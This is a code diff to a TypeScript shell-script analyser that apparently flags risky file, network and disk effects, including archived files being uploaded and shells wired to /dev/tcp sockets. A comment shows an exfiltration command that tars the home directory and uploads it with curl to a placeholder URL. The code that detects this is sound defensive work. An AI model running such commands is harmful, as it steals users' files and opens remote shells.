@@ -1,5 +1,6 @@
 import type { Analysis, DeleteVia, Effect, ReadVia, WriteVia } from '../analysis.ts';
 import { noteBytes, noteCopy } from './copies.ts';
+import { markCut } from '../run/add-mark.ts';
 import { isListedDevice, isUnknownCode, render } from '../expand/unknown.ts';
 import { descriptorAt } from '../run/descriptors.ts';
 import { placesBehind } from './links.ts';
@@ -21,9 +22,24 @@ export function readPath(machine: Machine, call: Call, path: string, via: ReadVi
   if (path === '' || path === '-') return;
   for (const place of [path, ...placesBehind(machine, call, path)]) {
     const at = located(machine, call, place);
-    if (!isSink(at.path)) pushPath(machine, call, contentPlace(machine, at), { kind: 'read', via });
+    if (isSink(at.path)) continue;
+    pushPath(machine, call, contentPlace(machine, at), { kind: 'read', via });
+    if (via === 'upload' || via === 'redirect')
+      for (const packed of packedIn(machine, at.path)) pushPath(machine, call, packed, { kind: 'read', via });
   }
   readAgain(machine, call, path, (other) => readPath(machine, other.call, other.path, via));
+}
+
+/** An archive that the same text has made holds what was packed: `tar czf b.tgz ~ && curl -T b.tgz URL` sends the home. */
+function packedIn({ analysis: { effects } }: Machine, path: string): Located[] {
+  const makers = effects
+    .filter((effect) => effect.kind === 'write' && effect.via === 'archive' && effect.path === path)
+    .map(({ by }) => by);
+  return effects.flatMap((effect) =>
+    effect.kind === 'read' && effect.via === 'archive' && makers.includes(effect.by)
+      ? [{ path: effect.path, raw: effect.raw, ...(effect.hint === undefined ? {} : { hint: effect.hint }) }]
+      : [],
+  );
 }
 
 /** A copy that was just made holds what its original holds. */
@@ -31,66 +47,82 @@ function contentPlace({ copied }: Machine, at: Located): Located {
   return copied !== null && at.path === copied.to ? { path: copied.from, raw: at.raw } : at;
 }
 
-export function writePath(machine: Machine, call: Call, path: string, via: WriteVia, more: WriteMore): void {
+/** How a path is written. */
+type Writing = WriteMore & { via: WriteVia };
+
+export function writePath(machine: Machine, call: Call, path: string, writing: Writing): void {
   if (path === '') return;
+  const { via } = writing;
+  markCut(machine, call.frame, path);
   // A new link and a moved file take the place of a link that has the name.
   const places = placesBehind(machine, call, path, via === 'link' || via === 'move' ? 'itself' : 'followed');
-  for (const place of [path, ...places]) writePlace(machine, call, located(machine, call, place), via, more);
+  for (const place of [path, ...places]) writePlace(machine, call, located(machine, call, place), writing);
   if (via !== 'create' && isListedDevice(machine.unknowns, path))
     machine.emit(call, { kind: 'disk', operation: 'overwrite', device: '?' });
-  readAgain(machine, call, path, (other) => writePath(machine, other.call, other.path, via, more));
+  readAgain(machine, call, path, (other) => writePath(machine, other.call, other.path, writing));
 }
 
-function writePlace(machine: Machine, call: Call, at: Located, via: WriteVia, more: WriteMore): void {
-  if (at.path.startsWith('/dev/tcp/') || at.path.startsWith('/dev/udp/')) {
-    machine.emit(call, { kind: 'network', direction: 'upload', host: at.path.split('/')[3] ?? null, url: null });
-    // A shell whose output goes to a socket takes its orders from there too.
-    const started = machine.analysis.invocations.slice(Math.max(call.index, 0)).map(({ program }) => program);
-    const program = started.find((one) => programKind(one) === 'shell');
-    if (program !== undefined) machine.emit(call, { kind: 'code', source: 'network', interpreter: program });
-  }
+function writePlace(machine: Machine, call: Call, at: Located, writing: Writing): void {
+  const { via, content, append = false, empties = false, over = false } = writing;
+  writeSocket(machine, call, at);
   const number = descriptorAt(at.path);
   const opened = number === undefined ? undefined : call.scope.outputs.get(number);
   if (opened !== undefined) {
     for (const path of opened)
-      if (path !== at.path) writePlace(machine, call, located(machine, call, path), via, { ...more, append: true });
+      if (path !== at.path) writePlace(machine, call, located(machine, call, path), { ...writing, append: true });
     return;
   }
   const sink = machine.sinks.get(at.path);
-  if (sink !== undefined) sink(call, more.content ?? machine.unknown(at.raw));
+  if (sink !== undefined) sink(call, content ?? machine.unknown(at.raw));
   if (isSink(at.path)) return;
   if (machine.copied?.to === at.path) machine.copied = null;
   // What is below a directory that find has found is somewhere below where it looked.
   const place = { ...at, path: at.path.replace(/(?:\/\*\*){2,}$/, '/**') };
-  pushPath(machine, call, place, { kind: 'write', via, append: more.append ?? false, empties: more.empties ?? false });
+  pushPath(machine, call, place, { kind: 'write', via, append, empties });
   // `of=/dev/{}` after xargs: some device.
   if ((isDevice(at.path) || /^\/dev\/\$[({]/.test(at.raw)) && via !== 'create')
     machine.emit(call, { kind: 'disk', operation: 'overwrite', device: at.path });
   if (via === 'copy' || via === 'move' || via === 'link' || call.program === 'dd') noteCopy(machine, call, at.path);
-  noteBytes(machine, at.path, more.content);
-  if (more.content !== undefined)
-    keepFile(machine, at.path, more.content, more.over === true ? 'over' : more.append === true ? 'behind' : 'instead');
+  noteBytes(machine, at.path, content);
+  if (content !== undefined) keepFile(machine, at.path, content, over ? 'over' : append ? 'behind' : 'instead');
 }
 
-export function removePath(
-  machine: Machine,
-  call: Call,
-  path: string,
-  via: DeleteVia,
-  more: { recursive?: boolean; force?: boolean },
-): void {
+/** `> /dev/tcp/host/port` */
+function writeSocket(machine: Machine, call: Call, at: Located): void {
+  if (!at.path.startsWith('/dev/tcp/') && !at.path.startsWith('/dev/udp/')) return;
+  machine.emit(call, { kind: 'network', direction: 'upload', host: at.path.split('/')[3] ?? null, url: null });
+  // A shell whose output goes to a socket takes its orders from there too.
+  const started = machine.analysis.invocations.slice(Math.max(call.index, 0)).map(({ program }) => program);
+  const program = started.find((one) => programKind(one) === 'shell');
+  if (program !== undefined) machine.emit(call, { kind: 'code', source: 'network', interpreter: program });
+}
+
+/** How a path is deleted. */
+type Removing = { via: DeleteVia; recursive?: boolean; force?: boolean };
+
+export function removePath(machine: Machine, call: Call, path: string, removing: Removing): void {
   if (path === '') return;
-  const { recursive = false, force = false } = more;
+  const { via, recursive = false, force = false } = removing;
+  markCut(machine, call.frame, path);
   for (const place of [path, ...placesBehind(machine, call, path, 'itself')])
     pushPath(machine, call, located(machine, call, place), { kind: 'delete', via, recursive, force });
-  readAgain(machine, call, path, (other) => removePath(machine, other.call, other.path, via, more));
+  readAgain(machine, call, path, (other) => removePath(machine, other.call, other.path, removing));
   const unset =
     // `find "$DIR" -delete` with an empty name finds nothing.
     recursive && via === 'rm' && machine.scriptFile === null
       ? unsetInFront(machine, path, (name) => isExpectedSet(call.scope, name))
       : undefined;
-  if (unset !== undefined) removePath(machine, whereEmpty(machine, call, path), unset, via, more);
+  if (unset !== undefined) removePath(machine, whereEmpty(machine, call, path), unset, removing);
+  const { cwd, stays } = call.scope;
+  if (recursive && cwd === null && stays !== undefined && EVERYTHING.test(path)) {
+    const scope = { ...call.scope, cwd: stays.path };
+    const frame = { ...call.frame, assumed: true as const, ifEmpty: stays.variable };
+    removePath(machine, { ...call, scope, frame }, path, removing);
+  }
 }
+
+/** All that a directory holds: `*`, `./*`, `.`. */
+const EVERYTHING = /^(?:\.\/)*(?:\*+|\.?\*|\.\/?)$/;
 
 type PathBody = { kind: 'read' | 'write' | 'delete' } & Record<string, unknown>;
 
@@ -101,27 +133,23 @@ function pushPath(machine: Machine, call: Call, at: Located, body: PathBody): vo
   const mount = call.frame.place === 'container' ? mounted(call.frame, at.path) : undefined;
   const place = mount === undefined ? call.frame.place : 'local';
   const path = mount ?? at.path;
-  // `X/**/name` and `X/**.bak`: some files below X, of a name.
-  const picked = path.includes('/**') ? /^(.*?\/\*\*)[^*].*$/.exec(path) : null;
-  const random = picked === null ? shownForRandom(machine, path) : undefined;
-  const where =
-    picked === null
-      ? random === undefined
-        ? { path }
-        : { path: random, hint: path }
-      : { path: picked[1], hint: path };
-  const script = scriptPlace(machine, call.frame.line);
-  const { ifEmpty } = call.frame;
-  const reading = ifEmpty === undefined ? {} : { ifEmpty };
   effectsOf(machine.analysis, call).push({
     ...body,
     ...at,
-    ...where,
+    ...shownPath(machine, path),
     by: call.index,
     place,
-    ...script,
-    ...reading,
+    ...scriptPlace(machine, call.frame.line),
+    ...(call.frame.ifEmpty === undefined ? {} : { ifEmpty: call.frame.ifEmpty }),
   } as Effect);
+}
+
+/** The path of an effect as it is listed. */
+function shownPath(machine: Machine, path: string): { path: string; hint?: string } {
+  // `X/**/name` and `X/**.bak` are some files below X, of a name.
+  const directory = path.includes('/**') ? /^(.*?\/\*\*)[^*].*$/.exec(path)?.[1] : undefined;
+  const shown = directory ?? shownForRandom(machine, path);
+  return shown === undefined ? { path } : { path: shown, hint: path };
 }
 
 /** What can be said of a file that a program gave a random name, or of one below such a directory. */
